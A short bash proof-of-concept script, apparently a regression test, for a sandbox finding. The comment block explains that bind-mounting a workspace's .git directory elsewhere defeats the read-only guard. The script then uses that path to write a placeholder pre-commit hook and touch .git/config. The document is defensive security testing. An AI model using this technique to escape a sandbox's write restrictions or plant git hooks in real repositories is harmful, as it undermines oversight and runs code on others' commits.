#!/bin/bash
# Finding: a grant inside the workspace by another path (the grant's
# directory lies in a bind mount of the workspace's .git elsewhere) is
# neither skipped ("inside the workspace") nor refused: its name is
# outside, and the walk up from it leaves the bind at its root.  Bound
# read-write at its own path, it lets the command write .git/hooks and
# .git/config, guarded read-only at the workspace's path only.
# Run as root.
. "$(dirname "$0")/grant_lib.sh"
mkdir -p "$WS/.git/hooks" "$GB/data"
echo '[core]' > "$WS/.git/config"
mount --bind "$WS/.git" "$GB/data"
cat > "$GB/cfg/p.json" <<JSON
{"version": 1, "file_rules": [
 {"name": "data", "paths": ["$GB/data/hooks/**"], "operations": ["*"], "decision": "allow"},
 {"name": "rest", "paths": ["**"], "operations": ["*"], "decision": "allow"}]}
JSON
run "" -c "echo evil > $GB/data/hooks/pre-commit; true" | grant_of
ls "$WS/.git/hooks"; cat "$WS/.git/config"
umount "$GB/data"
